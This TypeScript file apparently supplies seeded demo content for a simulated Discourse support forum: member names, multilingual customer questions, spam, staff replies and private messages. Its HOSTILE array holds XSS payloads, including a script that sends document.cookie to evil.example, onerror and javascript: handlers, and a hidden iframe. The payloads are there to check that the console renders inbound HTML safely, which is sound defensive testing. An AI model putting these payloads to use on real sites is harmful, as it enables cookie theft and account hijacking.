// electron/demo/simulators/discourse: what the demo forums' members write (picked by a seeded PRNG, so a
// demo run is reproducible). Mostly English, some Danish and Russian; Markdown-ish `raw` that the
// simulator cooks into Discourse-like HTML (paragraphs, links, inline code, code blocks, images).
export const MEMBERS = [
  { username: 'maria_k', name: 'Maria Kowalski' },
  { username: 'jensen88', name: 'Lars Jensen' },
  { username: 'tomasz', name: 'Tomasz Nowak' },
  { username: 'aiko.t', name: 'Aiko Tanaka' },
  { username: 'd_ivanova', name: 'Daria Ivanova' },
  { username: 'sam_b', name: 'Sam Brooks' },
  { username: 'freja.h', name: 'Freja Holm' },
  { username: 'oleg_p', name: 'Oleg Petrov' },
  { username: 'nina_r', name: 'Nina Rossi' },
  { username: 'kwame', name: 'Kwame Mensah' },
  { username: 'lucia.g', name: 'Lucía García' },
  { username: 'erik_s', name: 'Erik Sørensen' },
];

export const QUESTIONS: { title: string; raw: string; lang: 'en' | 'da' | 'ru' }[] = [
  {
    title: 'Card payment declined twice today',
    raw: 'My card was declined twice this morning even though the balance is fine. Is something wrong on your side?',
    lang: 'en',
  },
  {
    title: "How do I export last month's statement?",
    raw: 'I need the statement for October as a PDF for my accountant. Where do I find the export?\n\nI looked under **Settings → Documents** but it only shows this month.',
    lang: 'en',
  },
  {
    title: 'Game crashes on launch after the update',
    raw: 'Since patch 1.4.2 the game crashes right after the splash screen. Driver 551.23, Windows 11.\n\nThe log ends with:\n\n```\nFATAL: d3d12 device removed (0x887A0006)\nat RenderQueue::flush+0x1c2\n```',
    lang: 'en',
  },
  {
    title: 'Lost my save after switching PCs',
    raw: 'I moved to a new PC and my cloud save is gone. 140 hours of progress. Please help!',
    lang: 'en',
  },
  {
    title: 'Returnering af jakke',
    raw: 'Hej! Jeg vil gerne returnere en jakke, som er for lille. Hvordan gør jeg det, og hvem betaler fragten?',
    lang: 'da',
  },
  {
    title: 'Hvornår kommer vinterstøvlerne på lager?',
    raw: 'Jeg har ventet på størrelse 42 i tre uger. Ved I, hvornår de kommer igen?',
    lang: 'da',
  },
  {
    title: 'Не приходит код подтверждения',
    raw: 'Здравствуйте! Уже час не могу войти: код подтверждения по SMS не приходит. Что делать?',
    lang: 'ru',
  },
  {
    title: 'Sync with my watch stopped working',
    raw: 'The app stopped syncing sleep data from my watch two days ago. Reinstalling did not help. I followed [the pairing guide](https://help.example.com/pairing) step by step.',
    lang: 'en',
  },
  {
    title: 'Can I delete all my health data?',
    raw: 'I want every bit of my data removed from your servers. How do I request that under GDPR?',
    lang: 'en',
  },
  {
    title: 'Feature request: dark mode for the web app',
    raw: 'The mobile app has dark mode but the web app does not. Any plans? Setting `prefers-color-scheme` in my browser changes nothing.',
    lang: 'en',
  },
  {
    title: 'Double charged for my subscription',
    raw: 'I see two charges of 9.99 for this month on my statement. Can you refund one?',
    lang: 'en',
  },
  {
    title: 'Multiplayer matchmaking takes forever',
    raw: 'Queue times in ranked are over 15 minutes in EU West tonight. Is there an outage? https://status.example.com shows all green.',
    lang: 'en',
  },
  {
    title: 'Telt med hul ved levering',
    raw: 'Mit nye telt havde et hul i bunden, da jeg pakkede det ud. Kan jeg få et nyt?\n\n![foto af hullet](https://images.example.net/telt-hul-2291.jpg)',
    lang: 'da',
  },
  {
    title: 'Ошибка при оплате подписки',
    raw: 'При оплате подписки картой пишет «ошибка 402». Деньги списались, подписка не активна.',
    lang: 'ru',
  },
  {
    title: 'Two-factor app lost with my old phone',
    raw: 'My phone was stolen and the authenticator app was on it. I still have my recovery email. How do I get back in?',
    lang: 'en',
  },
  {
    title: 'Размер ботинок маломерит?',
    raw: 'Подскажите, ботинки Trail 2 маломерят? Обычно ношу 43, сомневаюсь между 43 и 44.',
    lang: 'ru',
  },
];

/** Follow-ups by the topic's author (raw Markdown-ish). */
export const FOLLOW_UPS = [
  'Any update on this? It is still happening.',
  'I tried logging out and in again, same result.',
  'Here is a screenshot:\n\n![screenshot](https://images.example.net/screenshot-4411.png)',
  "Thanks, that worked! One more question though: does this also apply to my partner's account?",
  'Still waiting for an answer here…',
  'Found this in the FAQ but it does not match what I see: https://help.example.com/faq#billing',
  'Tak for svaret, men det virker stadig ikke.',
  'Спасибо, но проблема осталась.',
];

export const SPAM = [
  {
    title: 'CHEAP GAME KEYS 90% OFF!!!',
    raw: 'Best prices on keys, visit https://cheap-keys-now.example and use code FORUM for extra 10%!!!',
  },
  {
    title: 'Earn $5000 a week from home',
    raw: 'I made $5000 last week working from home. DM me to learn how. Limited spots!',
  },
  {
    title: 'Лучшие казино без депозита',
    raw: 'Бонус 500% новым игрокам! Переходи по ссылке https://casino-bonus.example прямо сейчас.',
  },
];

/** Hostile content, to show the console renders inbound HTML safely (the cooked HTML is served as is). */
export const HOSTILE = [
  {
    title: 'Weird formatting in my post?',
    raw: 'Why does my post look odd?',
    cooked:
      '<p>Why does my post look odd?</p><img src="x" onerror="alert(document.cookie)"><script>fetch("https://evil.example/steal?c="+document.cookie)</script><a href="javascript:alert(1)">click</a>',
  },
  {
    title: 'Link to the manual does not work',
    raw: 'The manual link gives me an error page.',
    cooked:
      '<p>The manual link gives me an <a href="https://manual.example" onmouseover="alert(1)" style="position:fixed;inset:0">error page</a>.</p><iframe src="https://evil.example/frame"></iframe><svg><script>alert(2)</script></svg>',
  },
];

export const STAFF_REPLIES = [
  'Thanks for reaching out! We are looking into this and will get back to you shortly.',
  'Sorry about the trouble. Could you send us a private message with your account email so we can check?',
  'Good news: this is fixed in the latest version. Please update and let us know if it persists.',
  'Tak for din henvendelse! Vi kigger på det og vender tilbage hurtigst muligt.',
];

/** Members writing privately to the support account (private messages). */
export const PRIVATE_MESSAGES = [
  {
    title: 'Account question (private)',
    raw: 'Hi, I did not want to post this publicly: my account email is wrong and I cannot change it myself.',
  },
  {
    title: 'Refund for order 40112',
    raw: 'Hello, could you refund order 40112? The parcel came back to you last week.',
  },
];
